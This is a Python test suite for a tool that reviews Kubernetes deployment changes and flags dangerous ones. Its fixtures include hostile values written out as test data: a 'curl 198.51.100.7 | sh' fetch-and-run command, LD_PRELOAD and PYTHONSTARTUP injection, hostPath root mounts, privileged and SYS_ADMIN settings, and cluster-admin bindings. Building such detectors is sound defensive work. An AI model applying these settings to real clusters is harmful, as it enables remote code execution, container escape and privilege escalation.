"""Changes of keys, traffic, code and rights are findings; ordinary changes are not critical."""

import copy
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nim_component.local import urns
from nim_component.review.change import Change, Operation, ResourceState, StackChange, group_services
from nim_component.review.findings import Finding
from nim_component.review.sentences import plain_text
from nim_component.review.stack_review import review
from nim_component.review.values import redact_inputs
from nim_component.review.views import render
from nim_component.review.views.markdown import render_markdown

from .changes import deployment, kubernetes_object

CRITICAL, WARNING, NOTICE = "critical", "warning", "notice"
RANKS = (CRITICAL, WARNING, NOTICE)
EFFECTS = ("downtime", "stall-risk", "pods-restart", "timeouts")


def state(manifest: dict[str, Any]) -> ResourceState:
    type_ = f"kubernetes:{manifest['apiVersion'] if '/' in manifest['apiVersion'] else 'core/' + manifest['apiVersion']}:{manifest['kind']}"
    name = f"{manifest['kind'].lower()}-{manifest['metadata']['name']}"
    stack = f"urn:pulumi:dev::nim::{urns.STACK_TYPE}::nim-dev"
    return ResourceState(f"urn:pulumi:dev::nim::{type_}::{name}", type_, name, stack, redact_inputs(type_, copy.deepcopy(manifest)))


def stack_of(*pairs: tuple[dict[str, Any] | None, dict[str, Any] | None]) -> StackChange:
    changes: list[Change] = []
    for old, new in pairs:
        operation: Operation = "update" if old and new else "create" if new else "delete"
        changes.append(Change(operation, state(old) if old else None, state(new) if new else None))
    return StackChange("dev", "local renders", group_services(changes))


def findings(old: dict[str, Any] | None, new: dict[str, Any] | None) -> list[Finding]:
    return list(review(stack_of((old, new))).findings)


def severity(old: dict[str, Any] | None, new: dict[str, Any] | None) -> str:
    """Return the highest severity, without that of a restart."""
    found = [each.severity.value for each in findings(old, new) if each.rule not in EFFECTS]
    return min(found, key=RANKS.index, default="")


def pod(**fields: Any) -> dict[str, Any]:
    return deployment(pod=fields)


def container(**fields: Any) -> dict[str, Any]:
    return deployment(container=fields)


def context(**fields: Any) -> dict[str, Any]:
    return container(securityContext={**deployment()["spec"]["template"]["spec"]["containers"][0]["securityContext"], **fields})


def variable(name: str, value: str) -> dict[str, Any]:
    return container(env=[{"name": name, "value": value}])


def sidecar(**fields: Any) -> dict[str, Any]:
    changed = deployment()
    first = changed["spec"]["template"]["spec"]["containers"][0]
    changed["spec"]["template"]["spec"]["containers"].append({**first, "name": "sidecar", "image": "docker.io/acme/tool:1.0", **fields})
    return changed


BASE = deployment()
UPDATES = {
    # where keys and traffic go
    "HF_ENDPOINT": (variable("HF_ENDPOINT", "https://hub.example.com"), CRITICAL),
    "proxy": (variable("https_proxy", "http://10.0.0.9:3128"), CRITICAL),
    "index": (variable("PIP_INDEX_URL", "https://pypi.example.com/simple"), CRITICAL),
    "authorities": (variable("SSL_CERT_FILE", "/tmp/ca.pem"), CRITICAL),
    "repository of models": (variable("NIM_REPOSITORY_OVERRIDE", "s3://models"), CRITICAL),
    "S3": (variable("AWS_ENDPOINT_URL_S3", "https://s3.example.com"), CRITICAL),
    "any address": (variable("TELEMETRY_SINK", "collector.example.com:4317"), WARNING),
    "any URL": (variable("X", "http://198.51.100.7/"), WARNING),
    "host of a probe": (container(livenessProbe={"httpGet": {"host": "198.51.100.7", "port": 80}}), WARNING),
    "hostAliases": (pod(hostAliases=[{"ip": "198.51.100.7", "hostnames": ["huggingface.co"]}]), CRITICAL),
    "dnsConfig": (pod(dnsConfig={"nameservers": ["198.51.100.7"]}), CRITICAL),
    "dnsPolicy": (pod(dnsPolicy="Default"), CRITICAL),
    # what code runs
    "LD_PRELOAD": (variable("LD_PRELOAD", "/tmp/x.so"), CRITICAL),
    "PYTHONPATH": (variable("PYTHONPATH", "/cache"), CRITICAL),
    "PYTHONSTARTUP": (variable("PYTHONSTARTUP", "/cache/x.py"), CRITICAL),
    "postStart": (container(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}), CRITICAL),
    "preStop": (container(lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "id"]}}}), CRITICAL),
    "exec probe": (container(livenessProbe={"exec": {"command": ["sh", "-c", "id"]}}), WARNING),
    "command": (container(command=["sh", "-c", "id"]), WARNING),
    "args": (container(args=["--host", "0.0.0.0"]), WARNING),
    "remote code": (container(args=["--trust-remote-code"]), CRITICAL),
    "remote code of NIM": (variable("NIM_PASSTHROUGH_ARGS", "--trust_remote_code"), CRITICAL),
    "other registry": (container(image="ghcr.io/nim/meta/llama3-8b-instruct:1.0.0"), CRITICAL),
    "other organization": (container(image="nvcr.io/acme/meta/llama3-8b-instruct:1.0.0"), CRITICAL),
    "other model": (container(image="nvcr.io/nim/meta/llama3-70b-instruct:1.0.0"), WARNING),
    "working directory": (container(workingDir="/tmp"), WARNING),
    "envFrom": (container(envFrom=[{"configMapRef": {"name": "settings"}}]), WARNING),
    "files": (pod(volumes=[{"name": "x", "configMap": {"name": "patches"}}]), WARNING),
    "mount": (container(volumeMounts=[{"name": "x", "mountPath": "/usr/lib/python3"}]), WARNING),
    "sidecar": (sidecar(), WARNING),
    "init container": (pod(initContainers=[{"name": "prepare", "image": "docker.io/acme/tool:1.0"}]), WARNING),
    "ephemeral container": (pod(ephemeralContainers=[{"name": "debug", "image": "docker.io/acme/tool:1.0"}]), WARNING),
    # rights
    "service account": (pod(serviceAccountName="admin"), WARNING),
    "token": (pod(automountServiceAccountToken=True), WARNING),
    "projected token": (pod(volumes=[{"name": "x", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]), WARNING),
    "processes": (pod(shareProcessNamespace=True), CRITICAL),
    "hostPID": (pod(hostPID=True), CRITICAL),
    "hostNetwork": (pod(hostNetwork=True), CRITICAL),
    "hostIPC": (pod(hostIPC=True), CRITICAL),
    "hostPath": (pod(volumes=[{"name": "x", "hostPath": {"path": "/"}}]), CRITICAL),
    "NFS": (pod(volumes=[{"name": "x", "nfs": {"server": "198.51.100.7", "path": "/"}}]), WARNING),
    "inline CSI": (pod(volumes=[{"name": "x", "csi": {"driver": "secrets.example.com"}}]), WARNING),
    "procMount": (context(procMount="Unmasked"), CRITICAL),
    "AppArmor": (context(appArmorProfile={"type": "Unconfined"}), CRITICAL),
    "AppArmor of the pod": (pod(securityContext={"appArmorProfile": {"type": "Unconfined"}}), CRITICAL),
    "SELinux": (context(seLinuxOptions={"type": "spc_t"}), CRITICAL),
    "seccomp": (context(seccompProfile={"type": "Unconfined"}), CRITICAL),
    "sysctls": (pod(securityContext={"sysctls": [{"name": "kernel.core_pattern", "value": "|/x"}]}), CRITICAL),
    "privileged": (context(privileged=True), CRITICAL),
    "capability": (context(capabilities={"drop": ["ALL"], "add": ["SYS_ADMIN"]}), CRITICAL),
    "root": (context(runAsUser=0), CRITICAL),
    "group root": (context(runAsGroup=0), WARNING),
    "host process": (context(windowsOptions={"hostProcess": True}), CRITICAL),
    "writable files": (context(readOnlyRootFilesystem=False), WARNING),
    "host port": (container(ports=[{"name": "http", "containerPort": 80, "hostPort": 80}]), WARNING),
    "propagation": (container(volumeMounts=[{"name": "x", "mountPath": "/x", "mountPropagation": "Bidirectional"}]), CRITICAL),
    "block device": (container(volumeDevices=[{"name": "x", "devicePath": "/dev/x"}]), WARNING),
    "node": (pod(nodeName="master-0"), WARNING),
    "runtime": (pod(runtimeClassName="legacy"), WARNING),
    "a field of the future": (pod(hostDevices=True), WARNING),
    "a container field of the future": (container(rawDevices=["/dev/mem"]), WARNING),
}  # fmt: skip


@pytest.mark.parametrize("name", UPDATES)
def test_dangerous_change_of_pod_is_a_finding(name: str):
    new, expected = UPDATES[name]
    assert severity(BASE, new) == expected


@pytest.mark.parametrize("name", [name for name, (_, expected) in UPDATES.items() if expected == CRITICAL and "other" not in name])
@pytest.mark.parametrize("kind", ["Pod", "CronJob", "JobSet", "RayCluster"])
def test_pods_are_found_in_any_new_kind(name: str, kind: str):
    spec = UPDATES[name][0]["spec"]["template"]["spec"]
    specs: dict[str, tuple[str, Any]] = {
        "Pod": ("v1", spec),
        "CronJob": ("batch/v1", {"jobTemplate": {"spec": {"template": {"spec": spec}}}}),
        "JobSet": ("jobset.x-k8s.io/v1alpha2", {"replicatedJobs": [{"name": "a", "template": {"spec": {"template": {"spec": spec}}}}]}),
        "RayCluster": ("ray.io/v1", {"workerGroupSpecs": [{"groupName": "a", "template": {"spec": spec}}]}),
    }
    api_version, body = specs[kind]
    assert severity(None, kubernetes_object(kind, api_version, body)) in (CRITICAL, WARNING)


def test_new_program_is_a_warning_with_its_command():
    shell = [{"name": "a", "image": "docker.io/acme/tool:1.0", "command": ["sh", "-c"], "args": ["curl 198.51.100.7 | sh"]}]
    bodies: list[tuple[str, dict[str, Any]]] = [
        ("Pod", {"containers": shell}),
        ("CronJob", {"jobTemplate": {"spec": {"template": {"spec": {"containers": shell}}}}}),
        ("Deployment", {"template": {"spec": {"containers": shell}}}),
    ]
    for kind, body in bodies:
        (found,) = [each for each in findings(None, kubernetes_object(kind, "v1", body)) if each.rule == "created"]
        assert found.severity.value == WARNING
        assert "is created, and runs" in plain_text(found.text)
        assert "docker.io/acme/tool:1.0 sh -c curl 198.51.100.7 | sh" in plain_text(found.text)


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("EnvoyFilter", WARNING),
        ("PersistentVolume", WARNING),
        ("Application", WARNING),
        ("List", WARNING),
        ("ServiceMonitor", NOTICE),
        ("Lease", WARNING),
    ],
)
def test_new_object_of_unknown_kind_is_a_warning(kind: str, expected: str):
    assert severity(None, kubernetes_object(kind, "example.com/v1", {})) == expected


def test_pod_behind_a_decoy_is_found():
    inner = {"spec": {"hostPID": True, "containers": [{"name": "b", "image": "b"}]}}
    body = {"containers": [{"name": "a", "image": "a"}], "template": inner}
    assert severity(None, kubernetes_object("Tool", "example.com/v1", body)) == CRITICAL


NEUTRAL = [
    ("PYTHONUNBUFFERED", "1"), ("PYTHONDONTWRITEBYTECODE", "1"), ("PYTHONHASHSEED", "0"), ("PYTHONIOENCODING", "utf-8"),
    ("PYTHONFAULTHANDLER", "1"), ("PYTHONUTF8", "1"), ("ENV", "production"), ("LD_BIND_NOW", "1"), ("NCCL_NET", "IB"),
    ("OMPI_MCA_btl_tcp_if_include", "eth0"), ("NIM_CUSTOM_MODEL_NAME", "tone"), ("NIM_SERVER_HOST", "0.0.0.0"),
    ("RATIO", "0.9"), ("FILE", "prompts.yaml"), ("MODEL", "llama-3.1-8b"), ("LOG_FORMAT", "json.v1"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), NEUTRAL)
def test_neutral_variable_is_no_danger(name: str, value: str):
    assert [each.rule for each in findings(BASE, variable(name, value)) if each.rule in ("code", "destination")] == []


@pytest.mark.parametrize(("name", "values"), [("ENV", ("production", "/cache/x")), ("NCCL_NET", ("IB", "x"))])
def test_variable_is_dangerous_by_its_value(name: str, values: tuple[str, str]):
    for old, new in (values, values[::-1]):
        (found,) = [each for each in findings(variable(name, old), variable(name, new)) if each.rule == "code"]
        assert (found.severity.value, plain_text(found.text)) == (
            CRITICAL,
            f"Variable {name} of container nim changes from {old} to {new}.",
        )


DANGEROUS = [
    ("PIP_CONFIG_FILE", "/cache/pip.conf"), ("AWS_CONFIG_FILE", "/cache/aws"), ("KUBECONFIG", "/cache/kube"),
    ("OPENSSL_CONF", "/cache/ssl.cnf"), ("HF_MODULES_CACHE", "/cache"), ("SSLKEYLOGFILE", "/cache/keys"),
    ("GUNICORN_CMD_ARGS", "-c /cache/x.py"), ("VLLM_TOOL_PARSER_PLUGIN", "/cache/x.py"), ("TRTLLM_PLUGINS_PATH", "/cache"),
    ("NVIDIA_VISIBLE_DEVICES", "all"), ("AWS_ROLE_ARN", "arn:aws:iam::1:role/admin"), ("SINK", "evil.k8s"), ("SINK", "evil.example.com."),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), DANGEROUS)
def test_dangerous_variable_is_a_finding(name: str, value: str):
    assert severity(BASE, variable(name, value)) == (WARNING if name == "SINK" else CRITICAL)


def test_deleted_workload_without_replicas_stops_none():
    (found,) = findings(deployment(spec={"replicas": 0}), None)
    assert (found.rule, found.severity.value, plain_text(found.consequence)) == ("deleted", WARNING, "Its spec has 0 replicas.")
    (found,) = findings(deployment(spec={"replicas": 2}), None)
    assert (found.severity.value, plain_text(found.consequence)) == (CRITICAL, "2 replicas stop permanently.")


def test_dangers_of_another_workload_kind_are_findings():
    new = variable("LD_PRELOAD", "/tmp/x.so") | {"kind": "StatefulSet"}
    found = review(stack_of((BASE, None), (None, new))).findings
    assert any(each.rule == "code" and each.severity.value == CRITICAL for each in found)


def unconfined(**spec: Any) -> dict[str, Any]:
    changed = deployment(spec=spec)
    changed["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/nim": "unconfined"}
    return changed


def test_only_new_annotation_weakens_pod():
    (found,) = [each for each in findings(BASE, unconfined()) if each.rule == "security-weakened"]
    assert found.severity.value == CRITICAL
    assert found.paths == ('spec.template.metadata.annotations["container.apparmor.security.beta.kubernetes.io/nim"]',)
    assert not [each for each in findings(unconfined(), unconfined(minReadySeconds=5)) if each.rule == "security-weakened"]


RULE = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}


def role(kind: str, **rule: Any) -> dict[str, Any]:
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": {"name": "r"}, "rules": [{**RULE, **rule}]}


def binding(kind: str, role_name: str, *names: str) -> dict[str, Any]:
    subjects = [{"kind": "ServiceAccount", "name": name, "namespace": "nim"} for name in names]
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role_name}
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": "b"},
        "roleRef": reference,
        "subjects": subjects,
    }


def policy(name: str = "llama", **spec: Any) -> dict[str, Any]:
    return kubernetes_object("NetworkPolicy", "networking.k8s.io/v1", {"podSelector": {"matchLabels": {"a": "b"}}, **spec}, name)


def namespace(**labels: str) -> dict[str, Any]:
    found = {f"pod-security.kubernetes.io/{name}": value for name, value in labels.items()}
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "nim", "labels": found}}


def service(**spec: Any) -> dict[str, Any]:
    return kubernetes_object("Service", "v1", {"selector": {"app": "llama"}, "ports": [{"name": "http", "port": 80}], **spec})


def ingress(backend: str, **annotations: str) -> dict[str, Any]:
    paths = [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": backend, "port": {"number": 80}}}}]
    rules = [{"host": "a.example.com", "http": {"paths": paths}}]
    return kubernetes_object(
        "Ingress", "networking.k8s.io/v1", {"rules": rules}, annotations={f"x.example.com/{k}": v for k, v in annotations.items()}
    )


def account(**annotations: str) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "llama", "annotations": {f"eks.amazonaws.com/{k}": v for k, v in annotations.items()}}}  # fmt: skip


def definition(**spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "apiextensions.k8s.io/v1",
        "kind": "CustomResourceDefinition",
        "metadata": {"name": "d"},
        "spec": {"group": "a", **spec},
    }


WEBHOOK: dict[str, Any] = {
    "apiVersion": "admissionregistration.k8s.io/v1",
    "kind": "MutatingWebhookConfiguration",
    "metadata": {"name": "w"},
    "webhooks": [],
}
TO_ALL: Any = {"ingress": [{}], "policyTypes": ["Ingress"]}
OBJECTS: dict[str, tuple[dict[str, Any] | None, dict[str, Any] | None, str]] = {
    "new cluster role": (None, role("ClusterRole"), WARNING),
    "new role for Secrets": (None, role("Role", resources=["secrets"]), CRITICAL),
    "new role that creates pods": (None, role("Role", verbs=["create"]), CRITICAL),
    "wider role": (role("Role"), role("Role", verbs=["*"]), CRITICAL),
    "new cluster binding": (None, binding("ClusterRoleBinding", "cluster-admin", "llama"), CRITICAL),
    "another subject": (binding("RoleBinding", "view", "a"), binding("RoleBinding", "view", "a", "b"), WARNING),
    "another role": (binding("RoleBinding", "view", "a"), binding("RoleBinding", "admin", "a"), CRITICAL),
    "everyone": (None, binding("RoleBinding", "view", "system:unauthenticated"), CRITICAL),
    "group of administrators": (None, binding("RoleBinding", "view", "system:masters"), CRITICAL),
    "fewer rights than all": (binding("ClusterRoleBinding", "cluster-admin", "a"), binding("ClusterRoleBinding", "view", "a"), NOTICE),
    "subresources": (role("Role"), role("Role", resources=["pods/*"]), CRITICAL),
    "signer": (role("ClusterRole"), role("ClusterRole", resources=["signers"], verbs=["sign"]), CRITICAL),
    "controller of pods": (role("Role"), role("Role", resources=["replicationcontrollers"], verbs=["create"]), CRITICAL),
    "aggregation": (role("ClusterRole"), role("ClusterRole") | {"aggregationRule": {"clusterRoleSelectors": [{}]}}, CRITICAL),
    "verb behind many others": (role("Role"), role("Role", verbs=[*(f"v{each}" for each in range(20_000)), "escalate"]), CRITICAL),
    "one more verb": (role("Role", verbs=["get"]), role("Role", verbs=["watch", "get"]), WARNING),
    "any object": (role("Role", resourceNames=["a"]), role("Role"), WARNING),
    "conversion": (definition(), definition(conversion={"strategy": "Webhook", "webhook": {}}), CRITICAL),
    "definition deleted": (definition(), None, CRITICAL),
    "webhook": (None, WEBHOOK, CRITICAL),
    "weaker level": (namespace(enforce="restricted"), namespace(enforce="privileged"), CRITICAL),
    "level removed": (namespace(enforce="restricted"), namespace(), CRITICAL),
    "external address": (service(), service(externalIPs=["198.51.100.7"]), CRITICAL),
    "external name": (service(), service(externalName="x.example.com"), CRITICAL),
    "other pods": (service(), service(selector={"app": "other"}), WARNING),
    "backend": (ingress("llama"), ingress("other"), WARNING),
    "annotation of an Ingress": (ingress("llama", auth="https://a"), ingress("llama"), WARNING),
    "identity": (account(role="a"), account(role="b"), WARNING),
    "second policy": (None, policy("other", **TO_ALL), WARNING),
    "policy of other pods": (policy(**TO_ALL), policy(podSelector={"matchLabels": {"a": "none"}}, **TO_ALL), WARNING),
    "direction": (policy(policyTypes=["Ingress", "Egress"]), policy(policyTypes=["Ingress"]), WARNING),
    "wider policy": (policy(ingress=[{"from": [{"podSelector": {}}]}]), policy(ingress=[{}]), WARNING),
}


@pytest.mark.parametrize("name", OBJECTS)
def test_dangerous_change_of_object_is_a_finding(name: str):
    old, new, expected = OBJECTS[name]
    assert severity(old, new) == expected


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (role("Role", verbs=["get", "list"]), role("Role", verbs=["get"])),
        (role("Role", verbs=["get", "list"]), role("Role", verbs=["list", "get"])),
        (role("Role", verbs=["*"]), role("Role", verbs=["get", "delete"])),
        (role("Role", resources=["secrets", "pods"]), role("Role") | {"rules": [RULE, {**RULE, "resources": ["secrets"]}]}),
        (role("Role", resources=["secrets"]), role("Role", resources=["secrets"], resourceNames=["a"])),
        (definition(), definition(versions=[{"name": "v1", "additionalPrinterColumns": []}])),
    ],
)
def test_fewer_or_equal_rights_are_no_danger(old: dict[str, Any], new: dict[str, Any]):
    assert [each for each in findings(old, new) if each.rule == "rights"] == []


def test_stronger_level_is_no_warning_of_weakness():
    (found,) = findings(namespace(enforce="baseline"), namespace(enforce="restricted"))
    assert (found.severity.value, found.consequence) == (WARNING, ())


def config_map(**data: str) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c", "namespace": "nim"}, "data": data}


def test_only_another_loader_is_critical():
    from importlib.resources import files

    from nim_component import lora_loader

    shipped = {each.name: each.read_text("utf-8") for each in files(lora_loader).iterdir() if each.name.endswith(".py")}
    old = {name: f"{text}# old\n" for name, text in shipped.items()}
    assert [(each.rule, each.severity.value) for each in findings(config_map(**old), config_map(**shipped))] == [("code", NOTICE)]
    planted = {**shipped, "hub.py": "import os\n"}
    (found,) = findings(config_map(**old), config_map(**planted))
    assert (found.rule, found.severity.value) == ("code", CRITICAL)
    assert severity(config_map(note="a"), config_map(note="b")) == NOTICE


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (BASE, container(image="nvcr.io/nim/met\u0430/llama3-8b-instruct:1.0.0"), "met\\u0430"),
        (variable("HF_ENDPOINT", "https://huggingface.co"), variable("HF_ENDPOINT", "https://huggingf\u0430ce.co"), "huggingf\\u0430ce"),
        (ingress("llama"), ingress("ll\u0430ma"), "ll\\u0430ma"),
    ],
)
def test_letters_that_look_alike_are_critical(old: dict[str, Any], new: dict[str, Any], expected: str):
    found = [each for each in findings(old, new) if each.rule == "lookalike"]
    assert [each.severity.value for each in found] == [CRITICAL]
    assert expected in plain_text(found[0].text)


@pytest.mark.parametrize(
    ("field", "value"),
    [("PROMPT", "Sei höflich...danke"), ("TEXT", "café.Merci"), ("TEXT", "Größe.Über"), ("TEXT", "你好。版本1.5支持")],
)
def test_words_around_dots_are_no_lookalike(field: str, value: str):
    assert not [each for each in findings(BASE, variable(field, value)) if each.rule == "lookalike"]


def test_data_of_config_map_has_no_names():
    for name in ("name", "host", "path"):
        assert not [each for each in findings(config_map(**{name: "Muller"}), config_map(**{name: "Müller"})) if each.rule == "lookalike"]
    old, new = config_map(endpoint="https://huggingface.co"), config_map(endpoint="https://huggingf\u0430ce.co")
    assert severity(old, new) == CRITICAL


def test_prose_in_another_language_is_no_lookalike():
    assert not [each for each in findings(BASE, variable("PROMPT", "Sei höflich. 你好")) if each.rule == "lookalike"]
    (found,) = [each for each in findings(BASE, variable("PROMPT", "a\u202eb")) if each.rule == "lookalike"]
    assert found.severity.value == WARNING


def test_difference_behind_120_characters_is_visible():
    common = "wait " * 40
    old, new = container(command=["sh", "-c", common + "serve"]), container(command=["sh", "-c", common + "curl 198.51.100.7"])
    found = review(stack_of((old, new)))
    assert "curl 198.51.100.7" in render([found], "markdown").partition("<details>")[0]
    assert "curl 198.51.100.7" in render([found], "markdown").partition("<details>")[2]
    assert common + "curl 198.51.100.7" in render([found], "terminal")


def test_dangerous_field_stands_before_many_neutral_ones():
    many = [{"name": f"SETTING_{index}", "value": "x" * 90} for index in range(260)]
    known = {"name": "KNOWN", "value": "1"}
    endpoint = {"name": "HF_ENDPOINT", "value": "https://hub.example.com"}
    changes = [("a", [known, *many]), ("z", [known, endpoint])]
    metadata = [{"metadata": {"name": name, "namespace": "nim"}} for name, _ in changes]
    pairs = [(container(env=[known]) | each, container(env=env) | each) for each, (_, env) in zip(metadata, changes, strict=True)]
    found = review(stack_of(*pairs))
    for limit in (64_000, 40_000):
        details = render_markdown([found], limit=limit).partition("<details>")[2]
        assert details.index("env[HF_ENDPOINT]") < details.index("env[SETTING_0]")
    full = render_markdown([found], limit=10_000)
    assert "HF_ENDPOINT" in full
    assert "https://hub.example.com" in full


ADDRESSES = st.from_regex(r"\A[a-z]{1,8}://[a-z]{1,12}\.example\.com(:[1-9]\d{1,3})?\Z")
NAMES = st.from_regex(r"\A[A-Z]{1,6}(_[A-Z]{1,6}){0,2}\Z")
PROGRAMS = ("LD_PRELOAD", "LD_AUDIT", "PYTHONPATH", "PYTHONHOME", "BASH_ENV", "PATH")
FLAGS = ("hostPID", "hostIPC", "hostNetwork", "shareProcessNamespace", "automountServiceAccountToken")
SOURCES = (
    "hostPath", "nfs", "iscsi", "cephfs", "rbd", "flexVolume", "configMap", "secret", "projected", "gitRepo", "image", "csi", "azureFile",
)  # fmt: skip
WORDS = st.lists(st.text(max_size=10), min_size=1, max_size=4)


@st.composite
def dangerous_changes(draw: st.DrawFn) -> dict[str, Any]:
    name, text = draw(st.from_regex(r"\A[a-z]{3,9}\Z")), draw(st.text(min_size=1, max_size=20))
    options: list[dict[str, Any]] = [
        variable(draw(NAMES), draw(ADDRESSES)),
        variable(draw(st.sampled_from(PROGRAMS)), text),
        pod(**{draw(st.sampled_from(FLAGS)): True}),
        container(command=draw(WORDS)),
        container(args=draw(WORDS)),
        pod(
            volumes=[
                {
                    "name": "x",
                    draw(st.sampled_from(SOURCES)): draw(st.dictionaries(st.sampled_from(["path", "server"]), st.text(max_size=8))),
                }
            ]
        ),
        context(capabilities={"drop": ["ALL"], "add": [draw(st.sampled_from(["SYS_ADMIN", "NET_RAW", "ALL", "BPF", "x"]))]}),
        container(image=f"{name}.example.com/nim/meta/llama3-8b-instruct:1.0.0"),
        pod(serviceAccountName=f"{name}-x"),
        pod(hostAliases=[{"ip": str(draw(st.ip_addresses())), "hostnames": ["huggingface.co"]}]),
        pod(**{f"{name}Unknown": draw(st.booleans() | st.text(max_size=5))}),
        container(**{f"{name}Unknown": draw(st.booleans() | st.text(max_size=5))}),
    ]
    return draw(st.sampled_from(options))


@settings(max_examples=500, deadline=None)
@given(dangerous_changes(), st.integers(0, 9))
def test_no_dangerous_change_is_below_warning(new: dict[str, Any], replicas: int):
    changed = copy.deepcopy(new)
    changed["spec"]["replicas"] = replicas or 1
    found = [each for each in findings(BASE, changed) if each.rule not in (*EFFECTS, "replicas", "scaled-to-zero")]
    assert any(each.severity.value in (CRITICAL, WARNING) for each in found)


LABELS = st.dictionaries(st.from_regex(r"\A[a-z]{1,8}\Z"), st.from_regex(r"\A[a-z0-9]{1,8}\Z"), max_size=3)
QUANTITIES = st.sampled_from(["1", "500m", "4Gi", "8"])


@st.composite
def neutral_changes(draw: st.DrawFn) -> dict[str, Any]:
    sizes = {"nvidia.com/gpu": "1", "cpu": draw(QUANTITIES), "memory": draw(QUANTITIES)}
    changed = deployment(
        container={
            "resources": {"limits": sizes, "requests": sizes},
            "env": [
                {"name": "NIM_LOG_LEVEL", "value": draw(st.sampled_from(["INFO", "DEBUG"]))},
                {"name": "NIM_MAX_MODEL_LEN", "value": "4096"},
            ],
            "readinessProbe": {"httpGet": {"path": "/v1/health/ready", "port": "http"}, "periodSeconds": draw(st.integers(1, 60))},
        },
        pod={
            "nodeSelector": draw(LABELS),
            "tolerations": [{"key": each, "operator": "Exists"} for each in draw(LABELS)],
            "terminationGracePeriodSeconds": draw(st.integers(30, 300)),
            "volumes": [{"name": "dshm", "emptyDir": {"medium": "Memory", "sizeLimit": draw(QUANTITIES)}}],
        },
        spec={"replicas": draw(st.integers(1, 8)), "progressDeadlineSeconds": 3000 + draw(st.integers(0, 600))},
    )
    changed["metadata"]["labels"] = draw(LABELS)
    changed["metadata"]["annotations"] = {f"docs.example.com/{key}": value for key, value in draw(LABELS).items()}
    return changed


@settings(max_examples=500, deadline=None)
@given(neutral_changes(), neutral_changes())
def test_neutral_change_is_never_critical(old: dict[str, Any], new: dict[str, Any]):
    critical = [each.rule for each in findings(old, new) if each.severity.value == CRITICAL]
    assert critical == []
